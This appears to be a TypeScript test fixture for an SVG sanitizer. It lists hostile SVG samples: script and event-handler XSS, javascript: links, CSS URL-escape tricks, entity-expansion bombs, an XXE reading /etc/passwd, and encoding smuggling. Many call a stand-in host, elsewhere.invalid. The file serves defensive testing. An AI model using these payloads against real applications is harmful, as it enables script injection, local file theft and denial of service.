import { gzipSync } from 'node:zlib'

/** Where hostile files would fetch from or report to; nothing answers there. */
export const elsewhere = 'http://elsewhere.invalid'

const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" ${attributes}>${inner}<rect id="kept" width="10" height="10" fill="#c04020"/></svg>`
const run = `fetch('${elsewhere}/ran');document.title='ran'`
const repeated = (times: number, text: (n: number) => string) =>
  Array.from({ length: times }, (_, n) => text(n)).join('')
const pixel =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** Hostile files that are taken without what is hostile in them. */
export const cleanable: Record<string, string> = {
  'a script': svg(`<script>${run}</script>`),
  'a script in CDATA': svg(`<script><![CDATA[${run}]]></script>`),
  'a script by another prefix': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2000/svg"><x:script>${run}</x:script><rect id="kept" width="9" height="9"/></svg>`,
  'a script by reference': svg(`<script href="${elsewhere}/a.js"/><script xlink:href="${elsewhere}/b.js"/>`, xlink),
  'a script of HTML': svg(`<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`),
  'an event handler of the root': svg('', `onload="${run}"`),
  'event handlers of shapes': svg(`<g onclick="${run}"><rect onmouseover="${run}" width="9" height="9"/></g>`),
  'a handler in capitals': svg('', `ONLOAD="${run}" onLoad="${run}"`),
  'a handler with a prefix': svg('', `xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"`),
  'a foreign object': svg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${elsewhere}/i" onerror="${run}"/><iframe src="javascript:${run}"/></body></foreignObject>`,
  ),
  'HTML between shapes': svg(`<img xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/i" onerror="${run}"/>`),
  MathML: svg(`<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:${run}">x</mi></math>`),
  'a link that runs': svg(`<a href="javascript:${run}"><rect width="9" height="9"/></a>`),
  'a link that runs, by xlink': svg(`<a xlink:href="java&#10;script:${run}"><rect width="9" height="9"/></a>`, xlink),
  'a link elsewhere': svg(`<a href="${elsewhere}/"><text>go</text></a>`),
  'an image elsewhere': svg(
    `<image href="${elsewhere}/i.png" width="9" height="9"/><image xlink:href="//elsewhere.invalid/j.png" width="9" height="9"/>`,
    xlink,
  ),
  'an image that is an SVG': svg(
    `<image href="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}" width="9" height="9"/>`,
  ),
  'a use of another file': svg(
    `<use href="${elsewhere}/sprite.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>`,
    xlink,
  ),
  'paint servers elsewhere': svg(
    `<rect width="9" height="9" fill="url(${elsewhere}/p.svg#p)" filter="url('${elsewhere}/f.svg#f')" style="mask:url(&quot;${elsewhere}/m.svg#m&quot;)"/>`,
  ),
  'a filter that fetches': svg(
    `<filter id="f"><feImage href="${elsewhere}/i.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  'an import in CSS': svg(`<style>@import url(${elsewhere}/a.css); @import '${elsewhere}/b.css';</style>`),
  'a font in CSS': svg(
    `<style>@font-face{font-family:x;src:url(${elsewhere}/f.woff)}text{font-family:x}</style><text>x</text>`,
  ),
  'a background in CSS': svg(`<style>rect{background:url(${elsewhere}/b.png)}</style>`),
  'an escaped URL in CSS': svg(
    `<style>rect{fill:\\75rl(${elsewhere}/c.png)}</style><rect width="9" height="9" style="fill:u\\72l(${elsewhere}/d.png)"/>`,
  ),
  'a URL behind a comment in CSS': svg(
    `<style>rect{fill:ur/**/l(${elsewhere}/c.png);stroke:url/* */(${elsewhere}/d.png)}</style>`,
  ),
  'an image set in CSS': svg(`<style>svg{background-image:image-set("${elsewhere}/i.png" 1x)}</style>`),
  'a style sheet of HTML': svg(
    `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${elsewhere}/a.css"/>`,
  ),
  'a style sheet by instruction': `<?xml-stylesheet href="${elsewhere}/a.css"?>${svg(`<?xml-stylesheet href="${elsewhere}/b.css"?>`)}`,
  'a style that ends itself': svg(`<style>&lt;/style>&lt;script>${run}&lt;/script></style>`),
  'an animation of a link': svg(
    `<a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a><set attributeName="xlink:href" to="javascript:${run}"/>`,
  ),
  'an animation with a handler': svg(
    `<animate onbegin="${run}" attributeName="x" dur="1s"/><set onend="${run}" attributeName="y" to="1"/>`,
  ),
  'a frame': svg(
    `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/"/><embed xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/"/>`,
  ),
  'a base': svg('', `xml:base="${elsewhere}/"`),
  'other namespaces': svg(
    `<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" onload="${run}"/><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>`,
  ),
  'a doctype of the SVG working group': `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${svg('')}`,
  'a comment that ends early': svg(`<!-- --><script>${run}</script><!-- -->`),
  'a title with markup': svg(`<title>&lt;script>${run}&lt;/script></title>`),
  'a huge path': svg(`<path d="M0 0${repeated(60_000, (n) => `L${n} ${n}`)}"/>`),
}

/** Files that are refused with a sentence. */
export const refused: Record<string, string | Uint8Array> = {
  'a billion laughs': `<!DOCTYPE svg [<!ENTITY a "ha">${repeated(9, (n) => `<!ENTITY ${'abcdefghijk'[n + 1]} "${`&${'abcdefghijk'[n]};`.repeat(10)}">`)}]>${svg('<text>&j;</text>')}`,
  'a quadratic blow-up': `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(50_000)}">]>${svg(`<text>${'&a;'.repeat(5000)}</text>`)}`,
  'an external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'an external subset with parameters': `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${elsewhere}/p.dtd">%p;]>${svg('')}`,
  'an undeclared entity': svg('<text>&nope;</text>'),
  'deep nesting': `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(50_000)}${'</g>'.repeat(50_000)}</svg>`,
  'too many shapes': svg('<g/>'.repeat(100_000)),
  'too many attributes': svg(`<g ${repeated(50_000, (n) => `a${n}="" `)}/>`),
  'copies of copies': svg(
    `<g id="c0"><rect width="1" height="1"/></g>${repeated(9, (n) => `<g id="c${n + 1}">${`<use href="#c${n}"/>`.repeat(10)}</g>`)}<use href="#c9"/>`,
  ),
  'patterns of patterns in CSS': svg(
    `<style>${repeated(9, (n) => `.p${n + 1}{fill:url(#p${n})}`)}</style>${repeated(9, (n) => `<pattern id="p${n + 1}" width="1" height="1">${`<rect class="p${n + 1}" width="1" height="1"/>`.repeat(10)}</pattern>`)}<pattern id="p0"><rect width="1" height="1"/></pattern><rect class="p9" width="9" height="9"/>`,
  ),
  'a copy of itself': svg('<g id="a"><use href="#a"/></g>'),
  'UTF-16 with a mark': Buffer.from(`\ufeff${svg(`<script>${run}</script>`)}`, 'utf16le'),
  'UTF-16 without a mark': Buffer.from(svg(`<script>${run}</script>`), 'utf16le'),
  'UTF-7': '+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4APA-/svg+AD4-',
  'bytes that are not UTF-8': Buffer.from(svg('<text>\xff\xfe</text>'), 'latin1'),
  'a compressed one': gzipSync(svg('')),
  HTML: `<!DOCTYPE html><html><body onload="${run}"></body></html>`,
  'HTML that holds one': `<html xmlns="http://www.w3.org/1999/xhtml"><body>${svg('')}</body></html>`,
  'XML of another kind': '<?xml version="1.0"?><svg xmlns="http://example.com/"/>',
  'one without its namespace': '<svg><rect width="9" height="9"/></svg>',
  'one cut short': svg('').slice(0, -12),
  'a root that closes twice': `${svg('')}<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
}

/** Logos as drawing programs write them, and what has to be left of them. */
export const logos: Record<string, { text: string; keeps: string[] }> = {
  'with gradients, classes and copies': {
    text: `<?xml version="1.0" encoding="utf-8"?><!-- Generator: a program --><svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" ${xlink} x="0px" y="0px" viewBox="0 0 48 24" style="enable-background:new 0 0 48 24;" xml:space="preserve"><style type="text/css">/* c */ .st0{fill:url(#g);} @media (prefers-color-scheme: dark){.st1{fill:#fff}}</style><defs><linearGradient id="g" x1="0" x2="1" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="#f00"/><stop offset="1" style="stop-color:#00f"/></linearGradient><clipPath id="k"><path d="M0 0h9v9z"/></clipPath><g id="dot"><circle class="st1" cx="3" cy="3" r="2"/></g></defs><g clip-path="url(#k)"><path class="st0" d="M0,0h48v24H0z"/></g><use xlink:href="#dot" x="4"/><image width="1" height="1" xlink:href="${pixel}"/><text x="1" y="9" font-family="sans-serif">Fjord &amp; Søn</text></svg>`,
    keeps: [
      'linearGradient',
      'gradientUnits="userSpaceOnUse"',
      'fill:url(#g)',
      'prefers-color-scheme',
      'clip-path="url(#k)"',
      'xlink:href="#dot"',
      'data:image/png;base64',
      'Fjord &amp; Søn',
      'viewBox="0 0 48 24"',
    ],
  },
  'with a size and no viewBox': {
    text: '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><path d="M0 0h200v50z"/></svg>',
    keeps: ['viewBox="0 0 200 50"', 'd="M0 0h200v50z"'],
  },
}
